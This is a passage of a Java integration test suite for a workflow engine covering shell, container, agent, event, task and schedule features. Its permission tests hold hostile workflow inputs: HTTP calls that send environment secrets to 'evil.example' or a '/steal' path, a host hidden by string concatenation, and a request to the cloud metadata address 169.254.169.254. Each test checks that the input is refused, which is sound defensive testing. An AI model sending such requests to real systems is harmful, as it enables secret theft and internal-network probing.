                     "parts":[{"kind":"text","text":"Yes"}]}}}}\
                    """));

        // When
        JsonNode process = run("elsewhere");

        // Then
        assertEquals("{\"said\":\"Yes\"}", process.path("output").toString(), process.toString());
        assertTrue(called.seen().get(1).body().contains("\"params\":[1,2]"));
        String request = called.seen().get(3).body();
        assertTrue(
                request.contains("Is it 3?") && request.contains("messageId") && request.contains("message/send"),
                request);
    }

    @Test
    @Tag("W29")
    void callsToolsAndRunsScripts() {
        // Given
        given("scripts", """
            do:
              - now: { call: tool, with: { tool: time, arguments: { } }, export: { as: '{ now: . }' } }
              - count:
                  run:
                    script:
                      language: javascript
                      stdin: a b c
                      environment: { UNIT: words }
                      arguments: [ 'there are' ]
                      code: |
                        import { readFileSync } from 'node:fs';
                        const words = readFileSync(process.stdin.fd, 'utf8').split(' ');
                        console.log(process.argv[2], words.length, process.env.UNIT);
              - fail: { run: { script: { language: js, code: 'console.error("no"); process.exit(3)' }, return: all } }
              - end: { set: { code: '${ .code }', error: '${ .stderr }', now: '${ $context.now | length > 5 }' } }
            """);
        given("broken-script", "do: [ { run: { run: { script: { language: js, code: 'nope()' } } } } ]\n");
        given("no-tool", "do: [ { run: { call: tool, with: { tool: nope } } } ]\n");

        // When
        JsonNode process = run("scripts");

        // Then
        assertEquals(
                "{\"code\":3,\"error\":\"no\\n\",\"now\":true}",
                process.path("output").toString(),
                process.toString());
        assertEquals(
                "there are 3 words\n",
                tasks(process.path("id").asText()).get(1).path("output").asText());
        JsonNode broken = run("broken-script");
        assertEquals("F", broken.path("status").asText());
        assertTrue(broken.path("error").path("detail").asText().contains("nope is not defined"), broken.toString());
        assertTrue(run("no-tool").path("error").path("detail").asText().contains("there is no tool 'nope'"));
        assertEquals(
                400,
                publish(definition(
                                "ruby", "1.0.0", "do: [ { run: { run: { script: { language: ruby, code: x } } } } ]\n"))
                        .status());
    }

    @Test
    @Tag("W29")
    void runsShellCommandsAndReturnsTheRequestedResult() {
        // Given
        // the example of the specification
        given("shell-example", """
            do:
              - setInput: { set: { message: Hello World } }
              - runShell:
                  input:
                    from: ${ .message }
                  run:
                    shell:
                      stdin: ${ . }
                      command: |
                        input=$(cat)
                        echo "STDIN was: $input"
                        echo "ARGS are $1 $2"
                      arguments:
                      - Foo
                      - Bar
            """);
        given("shell", """
            do:
              - count: { run: { shell: { command: 'echo "$UNIT" >&2; exit 3', environment: { UNIT: '${ "a\\(.n)" }' } }, return: all } }
              - fails:
                  try: [ { exit: { run: { shell: { command: 'echo broken >&2; exit 4' } } } } ]
                  catch:
                    as: error
                    errors: { with: { type: https://serverlessworkflow.io/spec/1.0.0/errors/communication } }
                    do: [ { note: { set: { said: '${ $error.detail }' } } } ]
                  export: { as: '{ fails: .said }' }
              - slow:
                  try: [ { nap: { run: { shell: { command: sleep 600 } }, timeout: { after: PT1S } } } ]
                  catch: { do: [ { note: { set: { status: '${ $error.status }' } } } ] }
                  export: { as: '$context + { slow: .status }' }
              - key: { run: { shell: { command: 'printf %s "$IDEMPOTENCY_KEY"' } }, idempotencyKey: '"my-key"' }
              - code: { run: { shell: { command: 'exit 5' }, return: code }, export: { as: '$context + { code: . }' } }
            output: { as: '$context' }
            """);

        given("shell-list", "do: [ { run: { run: { shell: { command: 'true', arguments: { a: 1 } } } } } ]\n");

        // When
        JsonNode example = run("shell-example");
        JsonNode process =
                startProcess("shell", Map.of("input", Map.of("n", 1))).json();

        // Then
        assertEquals(
                "STDIN was: Hello World\nARGS are Foo Bar\n",
                example.path("output").asText(),
                example.toString());
        assertEquals(
                "{\"fails\":\"the command ended with code 4: broken\",\"slow\":408,\"code\":5}",
                process.path("output").toString(),
                process.toString());
        List<JsonNode> tasks = tasks(process.path("id").asText());
        assertEquals(
                "{\"code\":3,\"stdout\":\"\",\"stderr\":\"a1\\n\"}",
                tasks.getFirst().path("output").toString());
        assertTrue(tasks.stream().anyMatch(task -> task.path("output").asText().equals("my-key")), tasks.toString());
        assertTrue(run("shell-list").path("error").path("detail").asText().contains("is a list, not object"));
    }

    @Test
    @Tag("W29")
    void runsContainersOfAllowedImages() {
        // Given
        given("container", """
            do:
              - runs: { run: { container: { image: alpine, stdin: Hello, command: 'cat; echo " $1"', arguments: [Foo] } } }
            """);
        given("containers", """
            do:
              - other:
                  try: [ { one: { run: { container: { image: '${ "alp" + "ine:3" }', command: 'true' } } } } ]
                  catch: { as: e, do: [ { note: { set: '${ $e.detail }' } } ] }
                  export: { as: '[.]' }
              - lines:
                  try: [ { two: { run: { container: { image: alpine, command: 'true', environment: { A: "a\\nB=c" } } } } } ]
                  catch: { as: e, do: [ { note: { set: '${ $e.detail }' } } ] }
            output: { as: '$context + [.] | join("; ")' }
            """);

        // Then
        assertEquals("Hello Foo\n", run("container").path("output").asText());
        String refused = run("containers").path("output").asText();
        assertTrue(refused.contains("'alpine:3' is none of workflows.containers.images"), refused);
        assertTrue(refused.contains("'A' of a container has one line"), refused);
    }

    /** What an ordinary account, and the administrator of another tenant, try in a project of their own. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "do: [ { a: { run: { shell: { command: id } } } } ]",
                "do: [ { a: { run: { container: { image: alpine } } } } ]",
                "do: [ { a: { call: http, with: { method: get, endpoint: { uri: 'https://evil.example/',"
                        + " authentication: { bearer: { token: 'env:PATH' } } } } } } ]",
                "use: { authentications: { crm: { basic: { username: x, password: 'env:PATH' } } } }\n"
                        + "do: [ { a: { call: http, with: { method: get, endpoint: { uri: 'https://evil.example/',"
                        + " authentication: { use: crm } } } } } ]",
                "do: [ { a: { call: http, with: { method: get, endpoint: 'http://127.0.0.1:1/' } } } ]",
                "do: [ { a: { call: grpc, with: { proto: { endpoint: 'https://evil.example/x.proto' }, method: M,"
                        + " service: { name: S, host: 127.0.0.1, port: 1 } } } } ]",
                "do: [ { a: { call: mcp, with: { method: tools/call, transport: { http: { endpoint:"
                        + " 'http://127.0.0.1:1/' } }, parameters: { name: x } } } } ]",
            })
    @Tag("B24")
    void publishesNothingThatUsesAPowerOfTheOperatorElsewhere(String body) {
        // Given
        String own = "/v1/projects/" + mallory().project("Mine") + "/workflows";
        String yaml = definition("attack", "1.0.0", body);

        // When
        Answer published = mallory().postYaml(own, yaml);
        Answer dry = mallory().postYaml(own + "?dryRun=true", yaml);
        Answer tenants = tenant().postYaml("/v1/workflows", yaml);

        // Then
        for (Answer refused : List.of(published, dry, tenants)) {
            assertEquals(400, refused.status(), refused.text());
            assertTrue(refused.text().contains("is not granted to this"), refused.text());
        }
        assertEquals(
                201,
                publish(definition("granted" + UUID.randomUUID(), "1.0.0", body))
                        .status());
    }

    /** An ordinary account. */
    private static Api mallory() {
        if (mallory == null) {
            api.signUp("boss"); // the first one is administrator
            mallory = api.signUp("mallory");
        }
        return mallory;
    }

    /** The administrator of another tenant. */
    private static Api tenant() {
        if (tenant == null) {
            var founder = Map.of("username", "bea", "password", "correct horse battery");
            api.create("/v1/hosts", Map.of("key", "second", "name", "Second", "administrator", founder));
            tenant = api.as(
                    api.post("/v1/auth/login", founder).json().get("token").asText());
        }
        return tenant;
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{ uri: '${ \"$URL/steal\" }', authentication: { bearer: { token: '${ \"env:\" + \"PATH\" }' } } }",
                "{ uri: '${ \"$URL\" }', authentication: { basic: { username: '${ \"env:\" + \"PATH\" }', password: x"
                        + " } } }",
                "'${ \"$URL/inside\" }'",
            })
    @Tag("B24")
    void expressionsGetNotAroundAMissingPower(String endpoint) {
        // Given
        String project = "/v1/projects/" + mallory().project("Mine") + "/workflows";
        String task = "do: [ { a: { call: http, with: { method: get, endpoint: %s } } } ]".formatted(endpoint);
        String hidden = task.replace("$URL", called.url().toString().replace("127.0.0.1", "127.0.0.\" + \"1"));
        Answer published = mallory().postYaml(project, definition("hidden", "1.0.0", hidden));
        assertEquals(201, published.status(), published.text());

        // When
        JsonNode process = mallory()
                .post(project + "/test:hidden/instances?wait=60s", null)
                .json();

        // Then
        assertEquals("F", process.path("status").asText(), process.toString());
        assertTrue(process.path("error").path("detail").asText().contains("parley.yml"), process.toString());
        assertEquals(List.of(), called.seen());
    }

    @Test
    @Tag("B26")
    void administratorsOfTheInstallationSeeWhoHasWhichPower() {
        JsonNode powers = api.get("/v1/powers").json();

        assertEquals(
                List.of("workflows.shell", "workflows.containers", "tools.secrets", "tools.allowedHosts", "tools.java"),
                powers.get("data").findValuesAsText("setting"));
        powers.get("data").forEach(power -> assertTrue(power.path("to").isArray(), power.toString()));
        JsonNode secret = powers.get("data").get(2);
        assertEquals("env:PATH", secret.get("name").asText());
        assertEquals("127.0.0.1", secret.get("to").get(0).asText());
        assertEquals("default", secret.get("projects").get(0).asText());
        assertEquals(403, tenant().get("/v1/powers").status());
        assertEquals(403, mallory().get("/v1/powers").status());
    }

    @Test
    @Tag("B27")
    void onlyAdministratorsCreateProjectsWhereTheHostSaysSo() {
        String setting = "/v1/settings/projectCreation";
        assertEquals(
                201, mallory().post("/v1/projects", Map.of("name", "First")).status());

        assertEquals(
                200, api.send("PUT", setting, "\"administrators\"", Map.of()).status());
        Answer refused = mallory().post("/v1/projects", Map.of("name", "Second"));
        Answer created = api.post("/v1/projects", Map.of("name", "Third"));
        assertEquals(
                200,
                api.send("PUT", setting, "\"everyone\"", Map.of("If-Match", "*"))
                        .status());

        assertEquals(403, refused.status(), refused.text());
        assertEquals(201, created.status(), created.text());
    }

    @Test
    void rejectsCallsToTheInternalNetwork() {
        given(
                "inside",
                "do: [ { get: { call: http, with: { method: get, endpoint: 'http://169.254.169.254/latest' } } } ]\n");

        JsonNode process = run("inside");

        assertEquals("F", process.path("status").asText());
        assertTrue(process.path("error").path("detail").asText().contains("allowedHosts"), process.toString());
    }

    @Test
    @Tag("W40")
    void workflowTaskRunsATurnOfAnAgent() {
        given("agents", "do: [ { ask: { call: agent, with: { agent: default, prompt: 'say hello' } } } ]\n");

        JsonNode process = run("agents");

        assertEquals("C", process.path("status").asText(), process.toString());
        assertTrue(process.path("output").asText().contains("say hello"), process.toString());
        String session = "workflow:" + process.path("id").asText() + ":default";
        assertEquals(
                1, api.list("/v1/sessions/" + session + "/turns?fresh=true").size());
    }

    @Test
    @Tag("W40")
    void aNativeAgentAnswersWithoutTools() {
        // Given
        String definition = """
            do: [ { ask: { call: agent, with: { agent: default, mode: %s, prompt: "!call workflow_show {}" } } } ]
            """;
        given("natives", definition.formatted("native"));
        given("services", definition.formatted("service"));

        // When
        JsonNode process = run("natives");
        JsonNode other = run("services");

        // Then
        assertEquals("C", process.path("status").asText(), process.toString());
        assertEquals(List.of(), toolCalls(process));
        Awaitility.await()
                .atMost(SOON)
                .untilAsserted(() -> assertEquals(1, toolCalls(other).size(), other.toString()));
    }

    /** The tool calls of the session in which a process has called the default agent. */
    private static List<JsonNode> toolCalls(JsonNode process) {
        return toolCalls(process, "default");
    }

    private static List<JsonNode> toolCalls(JsonNode process, String agent) {
        String session = "workflow:" + process.path("id").asText() + ":" + agent;
        return api.list("/v1/sessions/" + session + "/messages?fresh=true").stream()
                .flatMap(message -> message.path("parts").valueStream())
                .filter(part -> part.path("kind").asText().equals("tool"))
                .toList();
    }

    @ParameterizedTest
    @Tag("W29")
    @CsvSource({
        "depth, maximumDelegationDepth: 1.5, delegationDepth is a number",
        "skill, skill: juggling, there is no skill 'juggling'",
        "cost, costBudgetMicros: 0, has used up what it may",
    })
    void taskLimitsTheAgent(String name, String bound, String expected) {
        given("bound-" + name, """
            do: [ { ask: { call: agent, with: { agent: default, prompt: "!say hi", %s } } } ]
            """.formatted(bound));

        JsonNode process = run("bound-" + name);

        assertEquals("F", process.path("status").asText(), process.toString());
        assertTrue(process.path("error").path("detail").asText().contains(expected), process.toString());
    }

    /** The starter of a process answers the approvals of its agents, unless the definition excludes approvals. */
    @Test
    @Tag("W29")
    @Tag("W38")
    void approvalsOfAProcessAgentAreOnTheStartersWorklist() {
        // Given
        String work = """
            do: [ { ask: { call: agent, with: { agent: careful, prompt: "!call workflow_show {}\\n!then\\n!say done"%s } } } ]
            """;
        given("careful", work.formatted(""));
        given("lonely", work.formatted(", approvals: none"));
        String id = api.post("/v1/workflows/test:careful/instances", null)
                .json()
                .path("id")
                .asText();
        String session = "workflow:" + id + ":careful";

        // When
        List<JsonNode> approvals = Awaitility.await()
                .atMost(SOON)
                .until(
                        () -> api.list("/v1/worklists/me/approval/tasks?fresh=true").stream()
                                .filter(task -> task.path("session").asText().equals(session))
                                .toList(),
                        list -> !list.isEmpty());
        Answer answered = api.post(
                "/v1/tasks/" + approvals.getFirst().path("id").asText() + "/complete", Map.of("value", "reject"));
        JsonNode process = api.get("/v1/processes/" + id + "?wait=60s").json();
        JsonNode lonely = run("lonely");

        // Then
        assertEquals(200, answered.status(), answered.text());
        assertEquals("done", process.path("output").asText(), process.toString());
        Awaitility.await()
                .atMost(SOON)
                .until(() -> toolCalls(process, "careful").toString().contains("a person said no"));
        assertEquals("done", lonely.path("output").asText(), lonely.toString());
        Awaitility.await()
                .atMost(SOON)
                .until(() -> toolCalls(lonely, "careful").toString().contains("nobody can be asked"));
    }

    // ---- events

    @Test
    @Tag("W29")
    void waitingProcessGetsEachEventOnce() {
        // Given
        given("hears", """
            do:
              - both: { listen: { to: { all: [ { with: { type: test.paid } }, { with: { type: test.shipped } } ] } } }
            """);
        given("tells", """
            do: [ { tell: { emit: { event: { with: { source: 'urn:test', type: test.shipped, data: { n: 2 } } } } } } ]
            """);
        String id = api.post("/v1/workflows/test:hears/instances", null)
                .json()
                .path("id")
                .asText();
        var paid = Map.of(
                "specversion", "1.0", "id", "1", "source", "urn:shop", "type", "test.paid", "data", Map.of("n", 1));

        // When
        assertEquals(202, api.post("/v1/events", paid).status());
        assertEquals(202, api.post("/v1/events", paid).status());
        assertEquals("W", process(id).path("status").asText());
        run("tells");
        JsonNode process = api.get("/v1/processes/" + id + "?wait=60s").json();

        // Then
        assertEquals("[{\"n\":1},{\"n\":2}]", process.path("output").toString());
        assertEquals(400, api.post("/v1/events", Map.of("id", "1")).status());
    }

    // ---- human tasks

    @Test
    @Tag("W23")
    @Tag("W26")
    @Tag("W33")
    void aTaskIsClaimedDelegatedAndAnsweredOnce() {
        // Given
        given("people", """
            do:
              - check:
                  ask:
                    prompt: 'May we pay?'
                    mode: approval
                    options: [APPROVED, REJECTED]
                    assignment: { roleId: clerk, categoryCode: payments }
              - end: { set: { said: '${ .value }', by: '${ .by }' } }
            """);
        String id = api.post("/v1/workflows/test:people/instances", null)
                .json()
                .path("id")
                .asText();
        String task = waitingTask(id).path("id").asText();
        String user = api.get("/v1/me").json().path("id").asText();

        // When
        assertEquals(
                1,
                api.list("/v1/worklists/role:clerk/payments/tasks").stream()
                        .filter(row -> row.path("processId").asText().equals(id))
                        .count());
        assertEquals(200, api.post("/v1/tasks/" + task + "/claim", null).status());
        assertEquals(
                200,
                api.post("/v1/tasks/" + task + "/delegate", Map.of("assignee", user, "comment", "yours"))
                        .status());
        assertEquals(
                1,
                api.list("/v1/worklists/me/(all)/tasks?fresh=true").stream()
                        .filter(row -> row.path("processId").asText().equals(id))
                        .count());
        Answer wrong = api.post("/v1/tasks/" + task + "/complete", Map.of("value", "PERHAPS"));
        var key = Map.of("Idempotency-Key", "answer-1");
        Answer right = api.post("/v1/tasks/" + task + "/complete", Map.of("value", "APPROVED", "comment", "ok"), key);
        Answer repeated =
                api.post("/v1/tasks/" + task + "/complete", Map.of("value", "APPROVED", "comment", "ok"), key);
        Answer conflicting = api.post("/v1/tasks/" + task + "/complete", Map.of("value", "REJECTED"));

        // Then
        assertEquals(400, wrong.status());
        assertEquals(200, right.status());
        assertEquals("APPROVED", right.json().path("output").path("said").asText());
        assertEquals(right.json(), repeated.json());
        assertEquals(409, conflicting.status());
        assertTrue(conflicting.text().contains(user), conflicting.text());
        JsonNode details = api.get("/v1/tasks/" + task).json();
        assertEquals(user, details.path("completedBy").asText());
        assertEquals(
                List.of("delegated", "completed"), details.path("assignments").findValuesAsText("unassignedReason"));
    }

    @Test
    @Tag("W25")
    void unansweredTaskTakesItsDefault() {
        given("late", """
            do: [ { check: { ask: { prompt: 'Well?', options: [YES, NO], timeout: { after: PT0.5S }, onTimeout: default, default: NO } } } ]
            """);

        assertEquals("NO", run("late").path("output").path("value").asText());
    }

    @ParameterizedTest
    @ValueSource(strings = {"claim", "release", "cancel"})
    @Tag("W38")
    void auditsActionsOnATask(String action) {
        // Given
        if (api.get("/v1/workflows/test:audited").status() == 404) {
            given("audited", "do: [ { check: { ask: { prompt: 'Well?' } } } ]\n");
        }
        String id = api.post("/v1/workflows/test:audited/instances", null)
                .json()
                .path("id")
                .asText();
        String task = waitingTask(id).path("id").asText();

        // When
        assertEquals(
                200,
                api.post("/v1/tasks/" + task + "/" + action, Map.of("comment", "because"))
                        .status());

        // Then
        Awaitility.await()
                .atMost(SOON)
                .until(() -> api.list("/v1/audit?source=task").stream()
                                .filter(row -> row.toString().contains(task)
                                        && row.toString().contains(action)
                                        && row.path("comment").asText().equals("because"))
                                .count()
                        == 1);
    }

    @Test
    @Tag("B132")
    void jsonOfProcessesAndTasksIsQueriedInSqlDigitForDigit() {
        // Given
        given("digits", "do: [ { note: { set: { kept: '${ .amount }' } } } ]\n");
        String input =
                "{\"who\":\"Ann\",\"amount\":123456789012345678901234567890.10,\"small\":0.00000000000000000001,\"nul\":\"\\u0000\"}";
        JsonNode process = api.post(
                        "/v1/workflows/test:digits/instances?wait=60s", Map.of("input", new RawValue(input)))
                .json();
        tasks(process.path("id").asText());

        // When
        List<String> values = instance.beans()
                .getBean(Database.class)
                .in(
                        Tenant.ALL,
                        transaction -> transaction.query(
                                """
                                SELECT p.input_data->>'amount', t.task_input->>'amount', t.task_output->>'kept', p.output_data->>'kept',
                                  p.input_data->>'small', p.input_data::text, p.business->>'x', p.context_data->>'x', p.error_info->>'title',
                                  t.error_info->>'title', t.question->>'prompt'
                                FROM workflows.process_info_t p JOIN workflows.task_info_t t USING (host_id, process_id)
                                WHERE p.process_id = ? AND p.input_data->>'who' = 'Ann'
                                """,
                                row -> {
                                    assertTrue(row.next());
                                    var texts = new ArrayList<String>();
                                    for (int i = 1; i <= 6; i++) {
                                        texts.add(row.getString(i));
                                    }
                                    return texts;
                                },
                                UUID.fromString(process.path("id").asText())));

        // Then
        String amount = "123456789012345678901234567890.10";
        assertEquals(
                List.of(amount, amount, amount, amount, "0.00000000000000000001", input.replace("\\u0000", "\\ufffd")),
                values);
    }

    @ParameterizedTest
    @ValueSource(strings = {"suspend", "resume", "cancel", "retry", "skip", "restart"})
    @Tag("B131")
    void auditsTheReasonOfAnActionOnAProcess(String action) {
        // Given
        if (api.get("/v1/workflows/test:reasons").status() == 404) {
            given("reasons", "do: [ { check: { ask: { prompt: 'Well?' } } } ]\n");
        }
        String id = api.post("/v1/workflows/test:reasons/instances", null)
                .json()
                .path("id")
                .asText();
        String process = "/v1/processes/" + id;
        String task = waitingTask(id).path("id").asText();
        if (action.equals("resume")) {
            api.post(process + "/suspend", null);
        }

        // When
        Map<String, String> body =
                action.equals("skip") ? Map.of("task", "check", "reason", "as agreed") : Map.of("reason", "as agreed");
        api.post(process + "/" + action, body); // refused ones are audited, too

        // Then
        Awaitility.await()
                .atMost(SOON)
                .until(() -> api.list("/v1/audit?source=process").stream()
                                .filter(row -> row.path("subject").asText().equals(id)
                                        && row.path("action").asText().equals(action)
                                        && row.path("comment").asText().equals("as agreed"))
                                .count()
                        == 1);
        boolean ends = List.of("cancel", "skip").contains(action);
        assertEquals(
                ends ? "as agreed" : "null",
                tasks(id).stream()
                        .filter(row -> row.path("id").asText().equals(task))
                        .findFirst()
                        .orElseThrow()
                        .path("comment")
                        .asText());
        assertEquals(
                400,
                api.post(process + "/cancel", Map.of("reason", "x".repeat(2_001)))
                        .status());
    }

    /** The first example of docs/workflows.md. */
    @Test
    @Tag("W29")
    void firstExampleOfTheGuideRuns() throws IOException {
        // Given
        String guide = Files.readString(Path.of("../../docs/workflows.md"));
        int from = guide.indexOf("```yaml\n") + "```yaml\n".length();
        String start = "/v1/workflows/office:leave/instances";

        // When
        assertEquals(
                201, publish(guide.substring(from, guide.indexOf("```", from))).status());
        Answer granted = api.post(start + "?wait=60s", Map.of("input", Map.of("who", "Ann", "days", 1)));
        Answer pending = api.post(start, Map.of("input", Map.of("who", "Ann", "days", 10), "instanceId", "ann-summer"));
        JsonNode task = waitingTask(pending.json().path("id").asText());
        Answer answered = api.post("/v1/tasks/" + task.path("id").asText() + "/complete", Map.of("value", "GRANTED"));

        // Then
        assertEquals("{\"leave\":\"GRANTED\"}", granted.json().path("output").toString(), granted.text());
        assertTrue(pending.json().path("next").asText().contains("May Ann have 10 days off?"), pending.text());
        assertEquals("{\"leave\":\"GRANTED\"}", answered.json().path("output").toString(), answered.text());
    }

    @Test
    @Tag("W24")
    @Tag("W35")
    @Tag("W36")
    void worklistHasConfiguredColumnsAndTakesNoTasksIfInactive() {
        // Given
        given("listed", """
            do:
              - check:
                  ask: { prompt: '${ .p }', priority: '${ .n }', assignment: { roleId: judge, categoryCode: cases } }
            """);
        for (int n : new int[] {1, 5, 3}) {
            api.post("/v1/workflows/test:listed/instances", Map.of("input", Map.of("n", n, "p", "Case " + n)));
        }
        String list = "/v1/worklists/role:judge/cases";

        // When
        var settings = Map.of("columns", List.of("priority", "prompt"), "status", "Active");
        assertEquals(200, api.send("PUT", list, settings, Map.of()).status());
        Answer tasks = api.get(list + "/tasks?fresh=true");
        assertEquals(
                400,
                api.send("PUT", list, Map.of("columns", List.of("id", "id")), Map.of())
                        .status());
        api.send("PUT", list, Map.of("columns", List.of("prompt"), "status", "Inactive"), Map.of());
        api.post("/v1/workflows/test:listed/instances", Map.of("input", Map.of("n", 9, "p", "Case 9")));

        // Then
        assertEquals("[\"priority\",\"prompt\"]", tasks.json().path("columns").toString());
        assertTrue(tasks.json().path("data").get(0).toString().startsWith("{\"priority\":5,\"prompt\":\"Case 5\","));
        assertEquals(List.of("5", "3", "1"), tasks.json().path("data").findValuesAsText("priority"));
        assertEquals(3, api.list(list + "/tasks?fresh=true").size());
        assertEquals(
                4,
                api.list("/v1/worklists/role:judge/(all)/tasks").stream()
                        .filter(row ->
                                row.path("question").path("prompt").asText().startsWith("Case"))
                        .count());
        assertEquals(204, api.delete(list).status());
        assertEquals(4, api.list(list + "/tasks").size());
    }

    // ---- turns

    @Test
    @Tag("W38")
    void callOfUnknownOutcomeIsATaskOnAWorklist() {
        // Given
        assertEquals(
                201,
                api.post(
                                "/v1/tools",
                                Map.of(
                                        "name", "pay",
                                        "description", "Pays.",
                                        "type", "rest",
                                        "effect", "at_most_once",
                                        "implementation", Map.of("url", called.url() + "/pay", "method", "POST")))
                        .status());
        called.answers(HttpExchange::close);
        var turn = Map.of("text", "!call pay {}\n!then\n!say done", "agent", "payer");
        JsonNode task = Awaitility.await()
                .until(
                        () -> { // agents may not know of the tool yet
                            api.turn("payments", turn);
                            return api.list("/v1/worklists/role:leader/outcome/tasks?fresh=true");
                        },
                        list -> !list.isEmpty())
                .getFirst();
        assertEquals("payments", task.path("session").asText());
        assertTrue(task.at("/question/reason").asText().contains("outcome unknown"), task.toString());
        String path = "/v1/tasks/" + task.path("id").asText();
        String list = "/v1/worklists/role:leader/outcome";
        api.send("PUT", list, Map.of("columns", List.of("type", "session")), Map.of());

        assertEquals(
                List.of("[\"type\",\"session\",\"id\"]"),
                api.list(list + "/tasks").stream()
                        .map(row -> JSON.valueToTree(row.properties().stream()
                                        .map(Map.Entry::getKey)
                                        .toList())
                                .toString())
                        .toList());
        assertEquals(
                "invalid_answer",
                api.post(path + "/complete", Map.of("value", "once")).code());

        // When
        Answer answered = api.post(path + "/complete", Map.of("value", "happened", "comment", "seen at the bank"));

        // Then
        assertEquals(200, answered.status(), answered.text());
        assertEquals("happened", answered.json().path("result").asText());
        assertEquals(
                "task_closed",
                api.post(path + "/complete", Map.of("value", "did_not_happen")).code());
        assertEquals(List.of(), api.list("/v1/projects/default/tool-calls?state=unknown"));
        assertEquals(
                List.of(),
                api.list("/v1/tasks?fresh=true&mine=true").stream()
                        .filter(open -> open.path("type").asText().equals("outcome"))
                        .toList());
    }

    @Test
    void turnStartsShowsAndSignalsAWorkflow() {
        // Given
        given("ofTurn", """
            do:
              - hear: { listen: { to: { one: { with: { type: test.fromTurn } } } } }
              - end: { set: { heard: '${ .[0].n }' } }
            """);

        // When
        String started = api.say(
                        "web:flows",
                        "!call workflow_start {\"workflow\":\"test:ofTurn\",\"wait_seconds\":0}\n!then\n!say ok")
                .path("reply")
                .asText();
        JsonNode process =
                api.list("/v1/processes?definition=test:ofTurn&fresh=true").getFirst();
        String id = process.path("id").asText();
        api.say("web:flows", "!call workflow_signal {\"type\":\"test.fromTurn\",\"data\":{\"n\":7}}\n!then\n!say ok");
        JsonNode completed = api.get("/v1/processes/" + id + "?wait=60s").json();
        api.say("web:flows", "!call workflow_show {\"process\":\"" + id + "\"}\n!then\n!say ok");

        // Then
        assertEquals(7, completed.path("output").path("heard").asInt(), started);
        Awaitility.await()
                .atMost(SOON)
                .until(() -> api.get("/v1/sessions/web:flows/messages").text().contains("is completed"));
    }

    // ---- schedules

    @Test
    @Tag("W42")
    void aScheduleStartsProcessesUntilItsWorkflowIsDeleted() {
        // Given
        given("clock", "schedule: { every: PT1S }\ndo: [ { end: { set: { n: 1 } } } ]\n");

        // When
        Awaitility.await()
                .atMost(SOON)
                .until(() -> api.list("/v1/processes?definition=test:clock").size() >= 2);
        String id = api.get("/v1/workflows/test:clock").json().path("id").asText();
        api.delete("/v1/workflows/" + id);

        // Then
        var before = new AtomicInteger(); // one may still be running
        Awaitility.await().during(Duration.ofMillis(2_500)).atMost(SOON).until(() -> {
            int now = api.list("/v1/processes?definition=test:clock&fresh=true").size();
            return before.getAndSet(now) == now;
        });
        List<JsonNode> started = api.list("/v1/processes?definition=test:clock");
        assertEquals(
                started.size(),
                started.stream()
                        .map(row -> row.path("instanceId").asText())
                        .distinct()
                        .count());
    }

    @Test
    @Tag("W42")
    void startsProcessesByEventAndAfterThePreviousOne() {
        // Given
        given("onPaid", """
            schedule: { on: { one: { with: { type: test.order } } } }
            do: [ { end: { set: { n: '${ .[0].data.n }' } } } ]
            """);
        given("chain", "schedule: { after: PT0.2S }\ndo: [ { end: { set: { n: 1 } } } ]\n");

        // When
        for (int n = 1; n <= 2; n++) {
            var event = Map.of(
                    "specversion",
                    "1.0",
                    "id",
                    "o" + n,
                    "source",
                    "urn:shop",
                    "type",
                    "test.order",
                    "data",
                    Map.of("n", n));
            assertEquals(202, api.post("/v1/events", event).status());
        }

        // Then
        Awaitility.await()
                .atMost(SOON)
                .until(() -> api.list("/v1/processes?definition=test:onPaid&status=C")
                                .size()
                        == 2);
        assertEquals(
                List.of(1, 2),
                api.list("/v1/processes?definition=test:onPaid").stream()
                        .map(row -> row.path("output").path("n").asInt())
                        .sorted()
                        .toList());
        Awaitility.await()
                .atMost(SOON)
                .until(() -> api.list("/v1/processes?definition=test:chain").size() >= 3);
        api.delete("/v1/workflows/"
                + api.get("/v1/workflows/test:chain").json().path("id").asText());
    }

    @Test
    @Tag("W42")
    void theNewestOfConcurrentlyPublishedVersionsIsScheduled() {
        // Given
        List<String> names = IntStream.range(0, 8).mapToObj(i -> "race" + i).toList();
        String schedule = """
            schedule: { on: { one: { with: { type: test.race } } } }
            do: [ { end: { set: { n: 1 } } } ]
            """;

        // When
        try (var threads = Executors.newVirtualThreadPerTaskExecutor()) {
            for (String name : names) {
                for (int version = 1; version <= 4; version++) {
                    String yaml = definition(name, version + ".0.0", schedule);
                    threads.execute(() -> api.postYaml("/v1/workflows", yaml));
                }
            }
        }
        api.post("/v1/events", Map.of("specversion", "1.0", "id", "r1", "source", "urn:race", "type", "test.race"));

        // Then
        for (String name : names) {
            String newest =
                    api.get("/v1/workflows/test:" + name).json().path("version").asText();
            List<JsonNode> started = Awaitility.await()
                    .atMost(SOON)
                    .until(() -> api.list("/v1/processes?definition=test:" + name), rows -> !rows.isEmpty());
            assertEquals(
                    List.of("test:" + name + ":" + newest),
                    started.stream().map(row -> row.path("workflow").asText()).toList());
        }
    }

    @Test
    void unconfirmedScheduleIsSentAgain() {
        // Given
        given("unconfirmed", """
            schedule: { on: { one: { with: { type: test.unconfirmed } } } }
            do: [ { end: { set: { n: 1 } } } ]
            """);
        Database database = instance.beans().getBean(Database.class);

        // When: as if the server had been killed before it knew of the schedule's reply
        database.in(Tenant.ALL, transaction -> transaction.update("""
            UPDATE workflows.wf_definition_t SET confirmed = 0, update_ts = now() - interval '1 hour'
            WHERE name = 'unconfirmed'
            """));

        // Then
        Awaitility.await()
                .atMost(SOON)
                .until(() -> database.in(Tenant.ALL, transaction -> transaction.query("""
                    SELECT 1 FROM workflows.wf_definition_t WHERE name = 'unconfirmed' AND confirmed = revision
                    """, row -> row.next())));
    }

    // ---- projects

    @Test
    void projectWorkflowsAreHiddenOutsideAndErasedWithIt() {
        // Given
        String project = api.post("/v1/projects", Map.of("name", "Flows"))
                .json()
                .path("id")
                .asText();
        String path = "/v1/projects/" + project + "/workflows";
        given("shared", "do: [ { end: { set: { from: host } } } ]\n");
        Answer published =
                api.postYaml(path, definition("own", "1.0.0", "do: [ { hold: { ask: { prompt: hold } } } ]\n"));
        assertEquals(201, published.status(), published.text());

        assertEquals(404, api.get("/v1/workflows/test:own").status());
        assertEquals(
                "host",
                api.post(path + "/test:shared/instances?wait=60s", null)
                        .json()
                        .path("output")
                        .path("from")
                        .asText());
        String process =
                api.post(path + "/test:own/instances", null).json().path("id").asText();
        assertEquals(2, api.list("/v1/processes?fresh=true&project=" + project).size());
        assertEquals(0, api.list("/v1/processes?definition=test:own").size());

        // When
